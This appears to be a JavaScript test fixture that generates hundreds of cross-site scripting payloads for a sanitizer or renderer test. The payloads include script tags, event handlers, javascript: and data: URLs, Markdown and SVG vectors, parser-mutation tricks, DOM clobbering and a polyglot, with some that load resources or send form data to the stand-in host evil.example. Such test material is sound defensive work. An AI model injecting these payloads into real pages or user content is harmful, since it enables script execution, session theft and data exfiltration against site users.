// Texts that would run something, leave the page's place in it, or ask another server for something, if any of
// them were taken for more than text. `RUN` becomes a call that tells the test which of them ran.
const RUN = (at) => `window.__xss&&__xss(${at})`;

/// Each as it is written here, with `RUN` in it.
const SHAPES = [
  // Scripts.
  "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<ScRiPt >RUN</ScRiPt >", "<script\n>RUN</script\n>",
  "<script/x>RUN</script>", "<script type=module>RUN</script>", "<script src=//evil.example/x.js></script>",
  "<script src=data:text/javascript,RUN></script>", "\"><script>RUN</script>", "'><script>RUN</script>",
  "--><script>RUN</script>", "]]><script>RUN</script>", "</script><script>RUN</script>", "</title><script>RUN</script>",
  "</textarea><script>RUN</script>", "</style><script>RUN</script>", "</pre></details><script>RUN</script>",
  "</noscript><script>RUN</script>", "</template><script>RUN</script>", "<scr<script>ipt>RUN</scr</script>ipt>",
  "<script>RUN//", "<script\u0000>RUN</script>", "<\u0000script>RUN</script>", "<%00script>RUN</script>",
  "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;",
  "&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;", "%3Cscript%3ERUN%3C/script%3E", "%253Cscript%253ERUN", "+ADw-script+AD4-RUN+ADw-/script+AD4-",
  "＜script＞RUN＜/script＞", "‹script›RUN‹/script›", "<script>/*</script>*/RUN", "<!--<script>-->RUN</script>",
  // Handlers.
  "<img src=x onerror=RUN>", "<img src=x onerror='RUN'>", "<img src=x onerror=\"RUN\">", "<IMG SRC=x ONERROR=RUN>",
  "<img/src=x/onerror=RUN>", "<img src=x:x onerror=RUN//", "<img src onerror=RUN>", "<img src=x oneonerrorrror=RUN>",
  "<image src=x onerror=RUN>", "<img srcset=x onerror=RUN>", "<img src=/assets/x onload=RUN onerror=RUN>",
  "\" onerror=RUN x=\"", "' onmouseover=RUN '", "\" autofocus onfocus=RUN x=\"", "\" onfocus=RUN autofocus tabindex=0 \"",
  "` onmouseover=RUN `", "x\" style=animation-name:x onanimationstart=RUN", "<body onload=RUN>", "<body onpageshow=RUN>",
  "<body onresize=RUN onscroll=RUN>", "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>",
  "<textarea autofocus onfocus=RUN>", "<keygen autofocus onfocus=RUN>", "<button autofocus onfocus=RUN>",
  "<details open ontoggle=RUN>", "<details/open/ontoggle=RUN><summary>x", "<video src=x onerror=RUN>", "<video><source onerror=RUN></video>",
  "<audio src=x onerror=RUN>", "<audio autoplay onloadstart=RUN src=x>", "<marquee onstart=RUN>", "<marquee loop=1 onfinish=RUN>x",
  "<object data=x onerror=RUN>", "<embed src=x onload=RUN>", "<div onpointerenter=RUN style=position:fixed;inset:0>", "<p onanimationend=RUN>",
  "<a onfocus=RUN tabindex=0 autofocus>x", "<style onload=RUN></style>", "<link rel=stylesheet href=x onerror=RUN>",
  "<dialog open onclose=RUN><form method=dialog><button>x", "<input type=image src=x onerror=RUN>", "<x contenteditable onfocus=RUN autofocus>",
  "<x onfocusin=RUN tabindex=1 id=x>", "<xss onbeforetoggle=RUN popover id=x>x</xss>", "<iframe onload=RUN></iframe>", "<track onerror=RUN>",
  // Frames and other documents.
  "<iframe src=javascript:RUN></iframe>", "<iframe srcdoc='<script>parent.RUN</script>'></iframe>", "<iframe src=//evil.example></iframe>",
  "<iframe src=data:text/html,<script>parent.RUN</script>></iframe>", "<frameset onload=RUN><frame>", "<object data=javascript:RUN>",
  "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "<embed src=javascript:RUN>", "<portal src=javascript:RUN>",
  "<fencedframe></fencedframe><iframe sandbox=allow-scripts srcdoc='<script>RUN</script>'>",
  // Addresses that are scripts.
  "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN", " javascript:RUN", "\u0001javascript:RUN", "javascript&colon;RUN",
  "javascript&#58;RUN", "&#106;avascript:RUN", "javascript://%0aRUN", "javascript:/*--></title></style></textarea></script>*/RUN", "vbscript:RUN",
  "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:RUN", "view-source:javascript:RUN",
  "<a href=javascript:RUN>x</a>", "<a href=\" javascript:RUN\">x</a>", "<a href=\"java&#x09;script:RUN\">x</a>", "<a href=&#106;avascript:RUN>x</a>",
  "<area href=javascript:RUN>", "<form action=javascript:RUN><input type=submit autofocus>", "<button formaction=javascript:RUN>x</button>",
  "<isindex action=javascript:RUN type=image>", "<math href=javascript:RUN>x</math>", "<a ping=//evil.example href=x>x</a>",
  // Markdown.
  "[x](javascript:RUN)", "[x]( javascript:RUN)", "[x](<javascript:RUN>)", "[x](JAVASCRIPT:RUN)", "[x](java\\script:RUN)", "[x](javascript&colon;RUN)",
  "[x](&#106;avascript:RUN)", "[x](data:text/html,<script>RUN</script>)", "[x](vbscript:RUN)", "![x](javascript:RUN)", "![x](x\"onerror=\"RUN)",
  "![\"onerror=\"RUN](x)", "![x](//evil.example/x.png)", "![x](https://evil.example/x.png \"t\" onerror=RUN)", "[x]: javascript:RUN\n\n[x]",
  "[x][y]\n\n[y]: javascript:RUN", "<javascript:RUN>", "<https://x\"onmouseover=\"RUN>", "[x](https://x \"\\\"onmouseover=RUN\")", "[![x](x)](javascript:RUN)",
  "```html\n<script>RUN</script>\n```", "```\"><script>RUN</script>\nx\n```", "~~~<img src=x onerror=RUN>\nx\n~~~", "`<img src=x onerror=RUN>`",
  "|<img src=x onerror=RUN>|\n|-|\n|<script>RUN</script>|", "> <script>RUN</script>", "# <img src=x onerror=RUN>", "- <svg onload=RUN>",
  "<div markdown=1>\n[x](javascript:RUN)\n</div>", "<b\n\nonclick=RUN>x</b>", "**<script>RUN</script>**", "[x](https://evil.example/?a=<script>RUN</script>)",
  // Templates.
  "{{constructor.constructor('RUN')()}}", "${RUN}", "#{RUN}", "<%= RUN %>", "{%raw%}<script>RUN</script>{%endraw%}", "[[${RUN}]]", "@{RUN}",
  "{{7*7}}<img src=x onerror=RUN>", "$(RUN)", "`;RUN;`", "';RUN;'", "\";RUN;\"", "\\';RUN;//", "</script>\"-RUN-\"", "*/RUN/*", "__proto__", "constructor",
  // SVG and MathML.
  "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><script href=data:,RUN />", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
  "<svg><set onbegin=RUN attributeName=x>", "<svg><a><animate attributeName=href values=javascript:RUN /><text x=20 y=20>x</text></a></svg>",
  "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x /></svg>", "<svg><foreignObject><iframe onload=RUN></iframe></foreignObject></svg>",
  "<svg><image href=x onerror=RUN></svg>", "<svg><desc><![CDATA[</desc><script>RUN</script>]]></svg>", "<svg><style><img src=x onerror=RUN></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=RUN>", "<math><maction actiontype=statusline xlink:href=javascript:RUN>x",
  // Parsed once more, it is something else.
  "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">", "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>", "<textarea><script>RUN</script>", "<template><img src=x onerror=RUN></template>",
  "<template shadowrootmode=open><script>RUN</script></template>", "<a title='</a><img src=x onerror=RUN>'>x</a>", "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
  "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">", "<select><style></select><img src=x onerror=RUN></style>", "<table><td><script>RUN</script>", "<p><table><img src=x onerror=RUN>",
  "<plaintext>", "<title>&lt;/title&gt;&lt;img src=x onerror=RUN&gt;", "<!--><img src=x onerror=RUN>-->", "<![CDATA[<img src=x onerror=RUN>]]>", "<?xml version=1?><img src=x onerror=RUN>",
  // Names that scripts of a page look up.
  "<form id=main><input name=innerHTML></form>", "<img name=getElementById>", "<form name=querySelector>", "<a id=queue><a id=queue name=x href=javascript:RUN>", "<meta name=csrf content=x>",
  "<input name=csrf value=x>", "<div id=toasts><img src=x onerror=RUN></div>", "<p id=told><script>RUN</script></p>", "<main id=main><img src=x onerror=RUN></main>",
  "<div data-live=//evil.example/ id=x></div>", "<div data-panel=x data-growing></div>", "<fieldset data-call=x></fieldset>", "<form data-group=x action=//evil.example></form>",
  "<img id=trustedTypes>", "<a id=location href=javascript:RUN>",
  // Styles, and what asks other servers.
  "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "<div style=background:url(//evil.example/x)>x</div>",
  "<div style=\"width:expression(RUN)\">x</div>", "<div style=position:fixed;inset:0;background:red>x</div>", "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=prefetch href=//evil.example/x>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=preconnect href=//evil.example>", "<img src=//evil.example/x.png>",
  "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", "<form action=//evil.example><input name=x><button autofocus>x", "<video poster=//evil.example/x>",
  // Text that looks like another text.
  "\u202e<script>RUN</script>\u202c", "\u2066\"><img src=x onerror=RUN>\u2069", "\u200b<\u200bscript>RUN</script>", "\ufeff<script>RUN</script>", "a\u0300\u0301\u0302<img src=x onerror=RUN>",
  "\u001b[2J\u001b[31m<script>RUN</script>", "\u0008\u0008<script>RUN</script>", "\u2028<script>RUN</script>\u2029", "\u{e0001}\u{e0041}<script>RUN</script>", "🏳️‍🌈<img src=x onerror=RUN>",
  // One that tries many places at once (0xsobky's polyglot, shortened).
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e",
];

export const payloads = SHAPES.map((shape, at) => shape.replaceAll("RUN", RUN(at)));

// As a program: prints them, for the test to store.
if (process.argv[1] === new URL(import.meta.url).pathname) console.log(JSON.stringify(payloads));
